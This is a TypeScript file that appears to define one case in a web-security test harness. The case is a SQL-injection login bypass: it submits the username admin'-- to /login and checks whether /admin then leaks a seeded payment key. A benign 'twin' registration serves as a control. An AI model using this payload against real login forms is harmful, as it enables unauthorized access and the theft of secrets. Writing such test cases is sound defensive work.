import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Logs in as the office by a comment in the user name. */
export const sqlLoginBypass: Attack = defineAttack({
  id: 'sql-login-bypass',
  class: 'sql-injection',
  title: 'Logs in as the office by a comment in the user name',
  cwe: 89,
  capec: 66,
  technique: 'T1190',
  preconditions: [],

  steps: async ({ visitor }) => {
    await visitor.form('/login', { user: "admin'--", password: 'x' })
    return visitor.get('/admin')
  },
  oracle: (answer, { witness }) => answer.status === 200 && answer.text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) => visitor.form('/register', { user: 'conan-obrien', password: "don't-look--here" }),
})
